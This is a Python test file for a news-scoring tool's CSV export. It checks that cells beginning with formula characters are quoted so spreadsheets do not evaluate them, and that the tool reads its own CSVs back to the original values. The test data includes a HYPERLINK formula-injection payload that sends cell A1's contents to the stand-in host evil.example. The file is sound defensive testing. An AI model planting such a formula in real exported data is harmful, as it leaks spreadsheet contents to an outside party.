"""CSV outputs are safe to open in a spreadsheet: hostile text cells are not formulas, and
spinscore's own readers of its CSVs get the JSONL's values back."""
import csv
import itertools
import json

from scorer.cli import main
from scorer.csv_cells import guard, unguard
from scorer.sites import read_rows

from test_batch_clusters import ORIGINAL, REWRITE, UNRELATED

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Click for the full story")'


def test_guard_quotes_formula_starts_and_unguard_inverts_it_exactly():
    # Every string of up to four characters over the characters that matter, and a few longer.
    alphabet = ["=", "+", "-", "@", "\t", "\r", "'", "a", " "]
    values = ["".join(p) for n in range(5) for p in itertools.product(alphabet, repeat=n)]
    values += [HOSTILE, "'Tis the season", "-5% in May", "@handle", "plain title"]
    for v in values:
        g = guard(v)
        assert unguard(g) == v, (v, g)
        # What a spreadsheet reads as a formula never reaches it unquoted.
        assert not (g[:1] in ("=", "+", "-", "@", "\t", "\r")), (v, g)
    assert guard("'Tis the season") == "'Tis the season"  # an ordinary leading quote is left alone
    assert guard("plain title") == "plain title"
    assert guard(-1.5) == -1.5 and guard(None) is None  # numbers and empty cells are not text


def test_batch_csv_cells_are_not_formulas_and_read_back_as_the_jsonl(tmp_path):
    d = tmp_path / "in"
    d.mkdir()
    docs = [("a.json", HOSTILE, "https://a.example.com/1", ORIGINAL, "2024-05-07"),
            ("b.json", "-30% for Calder's harbour", "https://b.example.org/2", REWRITE, "2024-05-09"),
            ("=c.json", "@Calder violin", "https://b.example.org/3", UNRELATED, "2024-05-08")]
    for name, title, url, text, date in docs:
        (d / name).write_text(json.dumps({"title": title, "url": url, "date": date, "text": text}), encoding="utf-8")
    assert main(["batch", str(d), "--out", str(tmp_path / "r.jsonl"), "--no-progress"]) == 0
    assert main(["batch", str(d), "--out", str(tmp_path / "r.csv"), "--no-progress"]) == 0

    with open(tmp_path / "r.csv", encoding="utf-8", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert cells, "the CSV has rows"
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert f"'{HOSTILE}" in cells and "'@Calder violin" in cells

    # Read back by spinscore (sites, notebook frames) the values are the JSONL's, and the cluster
    # pass that rewrote the CSV kept paths and cluster originals consistent.
    as_jsonl = {r["path"]: r for r in read_rows(tmp_path / "r.jsonl")}
    as_csv = {r["path"]: r for r in read_rows(tmp_path / "r.csv")}
    assert set(as_csv) == set(as_jsonl) and any(p.endswith("=c.json") for p in as_csv)
    for path, row in as_jsonl.items():
        assert as_csv[path]["title"] == row["title"]
        assert as_csv[path]["cluster_original"] == row["cluster_original"]


def test_score_csv_guards_its_cells(tmp_path, capsys):
    f = tmp_path / "a.json"
    f.write_text(json.dumps({"title": HOSTILE, "text": ORIGINAL}), encoding="utf-8")
    assert main(["score", str(f), "--format", "csv"]) == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert rows[0]["title"] == "'" + HOSTILE
